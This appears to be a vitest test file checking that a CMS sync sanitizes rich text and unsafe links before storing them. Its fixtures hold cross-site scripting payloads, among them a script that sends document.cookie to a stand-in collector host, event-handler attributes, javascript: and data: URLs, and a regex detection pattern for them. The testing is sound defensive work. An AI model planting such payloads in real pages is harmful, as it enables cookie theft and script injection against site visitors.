// CMS rich text (Markdown with whatever HTML an editor pasted into it) is rendered and
// sanitized once, at sync time, wherever it is stored.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CMS_URL, clearDb, edit, ftsIds, resetCms, rows, syncOne } from './helpers.ts';

const HOSTILE = [
  '<p>Safe words here.</p>',
  '<script>fetch("https://collector.invalid/?c=" + document.cookie)</script>',
  '<img src="/uploads/x.png" alt="still" onerror="alert(1)">',
  '<a href="javascript:alert(document.domain)">Play</a>',
  '<a href="https://example.com/ok" onclick="steal()">Share</a>',
  '<iframe src="https://collector.invalid/frame"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc123"></iframe>',
  '<div style="background:url(javascript:alert(1))" onmouseover="x()">Box</div>',
  '\n\n[Markdown link](javascript:alert(1)) and [a fine one](https://example.com/fine).',
].join('');

// As markup: the text of a refused Markdown link may still read "javascript:", harmlessly.
const UNSAFE = /<script|onerror|onclick|onmouseover|="javascript:|collector\.invalid|style=/i;

beforeEach(async () => {
  await resetCms();
  await clearDb();
});
afterEach(() => resetCms());

describe('hostile HTML', () => {
  it('in the fixture blog post is stored sanitized, and its text has no code in it', async () => {
    await syncOne('blog-posts');
    const [post] = await rows<{ content_html: string; body_text: string }>(
      'SELECT content_html, body_text FROM blog_posts WHERE slug = ?',
      'embed-home-movies-on-a-family-website',
    );
    expect(post!.content_html).not.toMatch(UNSAFE);
    expect(post!.content_html).not.toMatch(/<iframe/);
    expect(post!.content_html).toContain(`<img src="${CMS_URL}/uploads/does-not-exist.png" alt="Home movie still">`);
    expect(post!.content_html).toContain('Play the movie');
    expect(post!.content_html).not.toMatch(/<a(?: href(?:="")?)?>/);
    expect(post!.content_html).toContain(
      '<a href="https://www.forever-memories.example/preserve-and-share">share button</a>',
    );
    expect(post!.body_text).not.toMatch(/cookie|encodeURIComponent|</);
    expect(post!.body_text).toContain('The safe way is simpler');
    expect(await ftsIds('blog_posts_fts', 'cookie')).toEqual([]);
  });

  it('in p2p posts, sharing tips, press releases, FAQ answers and event sections is sanitized', async () => {
    await edit('p-2-p-posts', 1, { content: HOSTILE });
    await edit('p-2-p-sharing-tips', 1, { body: HOSTILE });
    await edit('press-releases', 1, { content: HOSTILE });
    await edit('faqs', 1, { faq: [{ question: 'Q?', answer: HOSTILE }] });
    await edit('events', 3, {
      sections: [
        { __component: 'event.info-card', title: 'Card', body: HOSTILE },
        { __component: 'event.cancellation', title: null, body: HOSTILE },
        { __component: 'event.faqs', title: null, items: [{ question: 'Q', answer: HOSTILE }] },
      ],
    });
    for (const c of ['p-2-p-posts', 'p-2-p-sharing-tips', 'press-releases', 'faqs', 'events']) {
      expect((await syncOne(c)).status, c).toBe('ok');
    }
    const stored = [
      ...(await rows<{ v: string }>('SELECT content_html AS v FROM p2p_posts WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT body_html AS v FROM p2p_sharing_tips WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT content_html AS v FROM press_releases WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT entries AS v FROM faqs WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT data AS v FROM event_sections WHERE event_id = 3')),
    ].map((r) => r.v);
    expect(stored).toHaveLength(7);
    for (const html of stored) {
      expect(html).toContain('Safe words here.');
      expect(html).not.toMatch(UNSAFE);
      // The YouTube player survives as a plain iframe.
      expect(html).toMatch(/<iframe src=\\?"https:\/\/www\.youtube\.com\/embed\/abc123\\?"/);
    }
    const [p2p] = await rows<{ body_text: string }>('SELECT body_text FROM p2p_posts WHERE id = 1');
    expect(p2p!.body_text).toBe('Safe words here. PlayShare Box [Markdown link](javascript:alert(1)) and a fine one.');
    expect(stored[0]).toContain('<a href="https://example.com/fine">a fine one</a>');
  });
});

describe('unsafe links outside rich text', () => {
  it('are dropped, and the record is kept', async () => {
    await edit('p-2-p-homepage-slides', 2, { link_url: 'javascript:alert(1)', title: 'Still shown' });
    await edit('p-2-p-posts', 18, { video_url: 'data:text/html,<script>x()</script>' });
    await edit('blog-posts', 1, { post_image: { url: 'javascript:alert(1)', alternativeText: 'x' } });
    for (const c of ['p-2-p-homepage-slides', 'p-2-p-posts', 'blog-posts'])
      expect((await syncOne(c)).status, c).toBe('ok');
    expect(await rows('SELECT title, link_url FROM p2p_homepage_slides WHERE id = 2')).toEqual([
      { title: 'Still shown', link_url: null },
    ]);
    expect(await rows('SELECT video_url FROM p2p_posts WHERE id = 18')).toEqual([{ video_url: null }]);
    expect(await rows('SELECT image_url, image_srcset FROM blog_posts WHERE id = 1')).toEqual([
      { image_url: null, image_srcset: null },
    ]);
  });
});
